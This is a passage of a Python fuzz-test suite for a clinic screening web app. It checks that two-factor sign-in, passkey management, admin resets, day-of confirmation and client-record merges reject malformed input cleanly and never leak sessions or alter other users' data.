    for method in ("get", "put", "delete"):
        response = getattr(client, method)("/api/v1/appointments/a%00b", headers=headers,
                                           **({"json": dict(GOOD_BOOKING)} if method == "put" else {}))
        assert response.status_code == 404 and response.mimetype == "application/problem+json", method
    for path in ("/staff/admin/api-tokens", "/staff/admin/api-tokens/revoke"):
        response = post_form(staff, path, [("csrf_token", csrf), ("name", "Ti\x00mely")])
        assert response.status_code in (200, 303, 400), (path, response.status_code)
        check(response, path)


# -- two-factor sign-in (screening/staff/twofactor_views.py) -------------------------------------------------------


def pending_client(app, user_id: int, purpose: str):
    """A client between a right password and its second step (``verify``) or first set-up (``enrol``)."""
    from screening.staff import twofactor

    with app.app_context():
        pending = twofactor.start_pending(db.session, db.session.get(StaffUser, user_id), purpose)
        db.session.commit()
    client = app.test_client()
    with client.session_transaction() as session:
        session["two_factor"] = pending
    return client


TWO_FACTOR_URLS = {("verify", "code"): "/staff/login/two-factor", ("verify", "options"): "/staff/login/passkey/options",
                   ("verify", "passkey"): "/staff/login/passkey", ("enrol", "code"): "/staff/login/set-up",
                   ("enrol", "options"): "/staff/login/set-up/passkey/options",
                   ("enrol", "passkey"): "/staff/login/set-up/passkey"}
CREDENTIALS = ["{}", "[]", "null", '{"id": "abc", "rawId": "abc", "type": "public-key", "response": {}}',
               '{"id": "abc", "rawId": "abc", "response": {"clientDataJSON": "e30", "authenticatorData": "AA", '
               '"signature": "AA", "attestationObject": "AA"}}', "[" * 5000 + "]" * 5000]


@fuzz(40)
@given(data=st.data())
def test_fuzz_two_factor_sign_in(app, data):
    """The second step of sign-in and the first set-up: a code, a passkey's answer and name. No made-up post signs in
    (a 400 or 401 with a message, never a 500), and the pending sign-in never becomes a staff session."""
    from screening.staff import twofactor

    with app.app_context():
        if not count(app, StaffUser):
            enrolled = create_user(db.session, "prac@clinic.test", "Pat", ["practitioner"], PASSWORD)
            key = twofactor.Passkey(user_id=enrolled.id, credential_id="abc", public_key=b"k", name="Phone")
            db.session.add(key)
            create_user(db.session, "new@clinic.test", "Nia", ["practitioner"], PASSWORD)
            db.session.commit()
        ids = dict(db.session.execute(select(StaffUser.email, StaffUser.id)).all())
    purpose = data.draw(st.sampled_from(["verify", "enrol"]), label="purpose")
    where = data.draw(st.sampled_from(["code", "options", "passkey"]), label="where")
    client = pending_client(app, ids["prac@clinic.test" if purpose == "verify" else "new@clinic.test"], purpose)
    good = token(client, TWO_FACTOR_URLS[(purpose, "code")])
    if where == "passkey" and data.draw(st.booleans()):
        post_form(client, TWO_FACTOR_URLS[(purpose, "options")], [("csrf_token", good)])  # a challenge to answer
    pairs = [("csrf_token", good),
             ("code", data.draw(st.one_of(st.sampled_from(["", "123456", "abcd-efgh-jkmn", " 12 34 56 "]),
                                          hostile_text()))),
             ("name", data.draw(st.one_of(st.sampled_from(["Laptop", "", "a" * 61]), hostile_text()))),
             ("credential", data.draw(st.one_of(st.sampled_from(CREDENTIALS), hostile_text())))]
    pairs = mutate(data.draw, pairs, ["csrf_token", "code", "name", "credential"], ["123456"], [])
    response = post_form(client, TWO_FACTOR_URLS[(purpose, where)], pairs)
    check(response, f"two-factor {purpose} {where}")
    if first(pairs, "csrf_token") != good:
        assert response.status_code == 400
    elif where == "options":
        assert response.status_code == 200 and response.json["challenge"]
    else:
        assert response.status_code in (400, 401), response.status_code
        if response.mimetype == "application/json":
            assert response.json["error"]
    with client.session_transaction() as session:
        assert "staff" not in session


@fuzz(40)
@given(data=st.data())
def test_fuzz_security_page(app, staff, data):
    """The Security page's forms: set up or remove an app, add, rename or remove a passkey, new recovery codes.
    Bad input is a 400 with a message (never a 500); another person's passkey is never touched."""
    from screening.staff import twofactor

    client, user_id = staff["client"], staff["user_id"]
    with app.app_context():
        db.session.execute(delete(twofactor.Passkey))
        other = db.session.scalar(select(StaffUser.id).where(StaffUser.email == "other2fa@clinic.test"))
        if other is None:
            other = create_user(db.session, "other2fa@clinic.test", "Oli", ["desk"], PASSWORD).id
        mine = twofactor.Passkey(user_id=user_id, credential_id="mine", public_key=b"k", name="Laptop")
        theirs = twofactor.Passkey(user_id=other, credential_id="theirs", public_key=b"k", name="Theirs")
        db.session.add_all([mine, theirs])
        db.session.commit()
        mine_id, theirs_id = mine.id, theirs.id
    urls = {"app": "/staff/account/security/app", "app_remove": "/staff/account/security/app/remove",
            "options": "/staff/account/security/passkeys/options", "register": "/staff/account/security/passkeys",
            "rename": "/staff/account/security/passkeys/rename", "remove": "/staff/account/security/passkeys/remove",
            "codes": "/staff/account/security/recovery-codes"}
    action = data.draw(st.sampled_from(sorted(urls)), label="action")
    good = token(client, "/staff/account/security")
    pairs = [("csrf_token", good),
             ("code", data.draw(st.one_of(st.sampled_from(["", "123456"]), hostile_text()))),
             ("passkey", data.draw(st.one_of(st.sampled_from([str(mine_id), str(theirs_id), "0", "", "99999999999"]),
                                             hostile_text()))),
             ("name", data.draw(st.one_of(st.sampled_from(["Work laptop", "", "a" * 61]), hostile_text()))),
             ("credential", data.draw(st.one_of(st.sampled_from(CREDENTIALS), hostile_text())))]
    pairs = mutate(data.draw, pairs, ["csrf_token", "code", "passkey", "name", "credential"], [str(mine_id)], [])
    response = post_form(client, urls[action], pairs)
    check(response, f"security {action}")
    assert response.status_code in (200, 302, 400), (action, response.status_code)
    if first(pairs, "csrf_token") != good:
        assert response.status_code == 400
    with app.app_context():
        assert db.session.get(twofactor.Passkey, theirs_id).name == "Theirs"
        assert db.session.scalar(select(func.count()).select_from(twofactor.Passkey)) >= 1


@fuzz(15)
@given(data=st.data())
def test_fuzz_reset_two_factor(app, staff, data):
    """An admin's reset of someone's second factors: only with the right token, never their own, 404 for no one."""
    client = staff["client"]
    with app.app_context():
        other = db.session.scalar(select(StaffUser.id).where(StaffUser.email == "lost@clinic.test"))
        if other is None:
            other = create_user(db.session, "lost@clinic.test", "Lou", ["practitioner"], PASSWORD).id
    target = data.draw(st.sampled_from([other, staff["user_id"], 2147483647]), label="target")
    url = f"/staff/admin/users/{target}/two-factor"
    good = token(client, f"/staff/admin/users/{other}/two-factor")
    pairs = mutate(data.draw, [("csrf_token", good)], ["csrf_token", "confirm"], [], [])
    response = post_form(client, url, pairs)
    check(response, "reset two-factor")
    if first(pairs, "csrf_token") != good:
        assert response.status_code == 400  # the token is checked first
    elif target == 2147483647:
        assert response.status_code == 404
    else:
        assert response.status_code == (302 if target == other else 400), response.status_code


# -- clients across visits and the day of treatment (issue 14) ------------------------------------


def client_uid(app, appointment_uid: str) -> str:
    """Return the uid of the client record an appointment is tied to."""
    from screening.clients.models import Client

    with app.app_context():
        appointment = appointments.by_uid(db.session, appointment_uid)
        return db.session.get(Client, appointment.client_id).uid


def day_of_submission(app) -> str:
    """Store a screening for today's appointment answered five days ago (so with answers to confirm today)."""
    from screening.rules import evaluate

    reference = make_submission(app, dict(BASE, appointment_date=TODAY.isoformat()))
    with app.app_context():
        row = db.session.scalar(select(Submission).where(Submission.reference == reference))
        earlier = TODAY - dt.timedelta(days=5)
        result = evaluate(current_rules(), dict(row.answers), answered_on=earlier)
        answers, signature = dict(row.answers), str(row.signature_name)
        row.outcome = result.outcome  # the encrypted values are bound to the outcome: write them again after it
        row.answers, row.result, row.signature_name = answers, result.to_dict(), signature
        row.answered_on, row.on_the_day = earlier, "to_confirm"
        db.session.commit()
    return reference


def day_of_client(app, reference: str):
    """Return a browser holding a fresh day-of-treatment check of ``reference`` (as after the date of birth)."""
    from screening.clients import services as clients
    from screening.clients.dayof import SESSION_KEY

    with app.app_context():
        submission = db.session.scalar(select(Submission).where(Submission.reference == reference))
        uid = clients.open_check(db.session, submission, "link").uid
    client = app.test_client()
    with client.session_transaction() as session:
        session[SESSION_KEY], session[SESSION_KEY + "_at"] = uid, 2 ** 40
    return client


def day_state(app, reference: str) -> tuple[str, str, int]:
    from screening.clients.models import DayCheck

    with app.app_context():
        row = db.session.scalar(select(Submission).where(Submission.reference == reference))
        return row.on_the_day, row.outcome, count(app, DayCheck, DayCheck.confirmed_at.is_not(None))


@fuzz(30)
@given(data=st.data())
def test_fuzz_day_of_confirmation(app, data):
    """The day-of pages: a bad post changes nothing and says why; a good one applies once, whole."""
    if count(app, Submission) == 0:
        reference = day_of_submission(app)
    else:
        with app.app_context():
            reference = db.session.scalar(select(Submission.reference).where(Submission.on_the_day == "to_confirm"))
        if reference is None:
            reference = day_of_submission(app)
    client = day_of_client(app, reference)
    page = client.get("/today")
    check(page, "today")
    good = csrf_token(page.text)
    items = re.findall(r'name="(still-[a-z0-9_]+)" value="yes"', page.text)
    assert items, "a screening answered earlier has answers to confirm"
    pairs = [("csrf_token", good)] + [(i, data.draw(st.sampled_from(["yes", "yes", "no"]))) for i in items]
    pairs = mutate(data.draw, pairs, ["csrf_token", *items], ["yes", "no"], [])
    before = day_state(app, reference)
    response = post_form(client, "/today", pairs)
    check(response, "today post")
    valid = first(pairs, "csrf_token") == good and all(first(pairs, i) in ("yes", "no") for i in items)
    if not valid:
        assert response.status_code == 400 and day_state(app, reference) == before, response.status_code
        return
    assert response.status_code == 303, response.status_code
    if response.location.endswith("/today/done"):
        assert day_state(app, reference)[0] == "confirmed"
        return
    changes = client.get("/today/changes")
    check(changes, "changes")
    names = sorted(set(re.findall(r'name="([a-z0-9_-]+)"', changes.text)) - {"csrf_token"})
    pairs = mutate(data.draw, [("csrf_token", csrf_token(changes.text))], ["csrf_token", *names], ALL_CODES,
                   ["add-injectables"])
    response = post_form(client, "/today/changes", pairs)
    check(response, "changes post")
    assert response.status_code in (200, 303, 400), response.status_code
    state = day_state(app, reference)
    if response.status_code == 303:
        assert state[0] == "confirmed" and state[2] == before[2] + 1, "applied once, whole"
    else:
        assert state == before, "a refused post applies nothing"
        check_round_trip(response, pairs, "changes")


@fuzz(20)
@given(data=st.data())
def test_fuzz_client_record(app, staff, data):
    """Merge and attach on a client's record: junk is refused with a message, never half-done."""
    from screening.clients.models import Client

    client = staff["client"]
    if count(app, Appointment) == 0:
        book_appointment(app)
        book_appointment(app, email="other@example.org")
    with app.app_context():
        uids = list(db.session.scalars(select(Client.uid).order_by(Client.id)))
    target = data.draw(st.one_of(st.sampled_from(uids + ["0" * 32, "x"]), hostile_text().filter(
        lambda t: t not in ("", ".", ".."))))
    action = data.draw(st.sampled_from(["merge", "attach"]))
    names = ["csrf_token", "duplicate" if action == "merge" else "reference"]
    value = st.one_of(st.sampled_from(uids + [staff["later"], staff["today"], ""]), hostile_text())
    pairs = mutate(data.draw, [("csrf_token", staff["token"]), (names[1], data.draw(value))], names, [], [])
    response = post_form(client, f"/staff/clients/{quote(target, safe='')}/{action}", pairs)
    check(response, action)
    assert response.status_code in (303, 400, 404, 405, 409), response.status_code
    if response.status_code in (400, 409) and response.mimetype == "text/html" and target in uids:
        assert "error-message" in response.get_data(as_text=True) or first(pairs, "csrf_token") != staff["token"]
    with app.app_context():  # the next example starts from two records again
        for row in db.session.scalars(select(Client)):
            row.merged_into_id, row.merged_at = None, None
        db.session.execute(update(Submission).values(client_id=None))
        db.session.commit()


@fuzz(20)
@given(data=st.data())
def test_fuzz_desk_day_of(app, staff, data):
    """Undo an arrival, and hand the tablet over for the day's confirmation: only today's, only with the token."""
    client = staff_client(app, staff["user_id"])
    good = token(client, "/staff/desk")
    reference = data.draw(st.one_of(st.sampled_from([staff["today"], staff["later"], staff["today"].lower()]),
                                    hostile_text().filter(lambda t: t not in ("", ".", ".."))))
    action = data.draw(st.sampled_from(["not-arrived", "confirm-here", "redo-here"]))
    pairs = mutate(data.draw, [("csrf_token", good)], ["csrf_token", "reference"], [], [])
    response = post_form(client, f"/staff/desk/{quote(reference, safe='')}/{action}", pairs)
    check(response, action)
    valid = first(pairs, "csrf_token") == good and services.normalise_reference(reference) == staff["today"]
    if action == "not-arrived":
        assert (response.status_code == 302) == valid, response.status_code
    else:  # today's screening was answered on its day: nothing to confirm or redo, so never handed over
        assert response.status_code in (400, 404, 405, 409) and not in_kiosk(client), response.status_code
